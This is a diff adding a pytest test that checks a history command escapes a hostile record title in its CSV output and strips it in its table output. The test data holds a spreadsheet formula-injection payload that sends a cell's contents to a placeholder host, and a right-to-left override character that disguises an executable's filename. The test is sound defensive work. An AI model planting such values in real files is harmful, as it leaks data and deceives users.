@@ -202,6 +202,16 @@ def test_history_command_table_csv_and_prefix(tmp_path, store):
     ]
 
 
+def test_history_csv_and_table_neutralise_hostile_titles(tmp_path, store):
+    hostile = dataclasses.replace(cluster("ccc333", 2, at(1.2)), title='=HYPERLINK("http://x/?"&A1)\u202e gnp.exe')
+    record(store, scan_result(at(1.2), hostile))
+    common = ["--since", "3h", "--now", "2026-03-02T03:00:00Z", "--state-dir", str(tmp_path)]
+    rows = _cli(*common, "--format", "csv").stdout.splitlines()[1:]
+    assert rows and all(row.endswith(',"\'=HYPERLINK(""http://x/?""&A1) gnp.exe"') for row in rows)
+    table = _cli(*common).stdout
+    assert "=HYPERLINK" in table and "\u202e" not in table
+
+
 def test_buckets_start_at_the_first_recorded_scan_and_the_table_fits_80_columns(tmp_path, store):
     for hour in range(0, 48, 3):
         record(store, scan_result(at(hour + 0.5), cluster("aaa111", hour + 1, at(hour + 0.5))))
